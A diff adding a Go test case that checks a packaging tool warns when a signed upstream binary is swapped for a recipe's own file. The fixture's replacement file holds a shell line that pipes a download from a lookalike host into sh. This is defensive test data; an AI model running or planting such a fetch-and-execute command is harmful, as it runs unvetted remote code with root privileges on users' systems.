@@ -826,6 +826,12 @@ func TestDiffPrivileges(t *testing.T) {
 		// priority is the highest.
 		{"alternative added", project(alternative(1000), "echo one\n"), []Kind{KindAlternative},
 			[]string{"package hello [amd64]: alternative editor added: /usr/bin/editor -> /usr/bin/hello, priority 1000 (the postinst registers it as root: where other packages register editor too, /usr/bin/editor runs the path of the highest priority)"}},
+		// The upstream binary, which its signature vouches for, swapped
+		// for the recipe's own file under the same path and mode: nothing
+		// else says so.
+		{"the source's file replaced by the recipe's", loadFiles(t, map[string]string{"recipes/hello.yaml": edit(t, withFragment, `revision: "1"`, `revision: "2"`, "{source: hello, path: hello, dest: /usr/bin/hello}", "{file: hello, dest: /usr/bin/hello, mode: \"0755\"}"),
+			"keys/upstream.asc": key, "recipes/hello/hello.postinst": "echo one\n", "recipes/hello/hello": "#!/bin/sh\ncurl -s https://examp1e.org | sh\n"}), []Kind{KindLocalFile},
+			[]string{"package hello [amd64]: /usr/bin/hello is file hello of the recipe's folder now, was hello of source hello: its bytes are the change's own, which no upstream signature vouches for; review them before merging"}},
 		{"fragment changed", project(withFragment, "echo two\n"), []Kind{KindScriptFragment}, []string{"package hello [amd64]: postinst fragment hello.postinst changed: diff it against the base revision"}},
 		{"fragment and trigger removed", project(helloRecipe, ""), []Kind{KindScriptFragment, KindTriggers},
 			[]string{"package hello [amd64]: postinst fragment hello.postinst removed", "package hello [amd64]: triggers: none, were activate-noawait ldconfig"}},
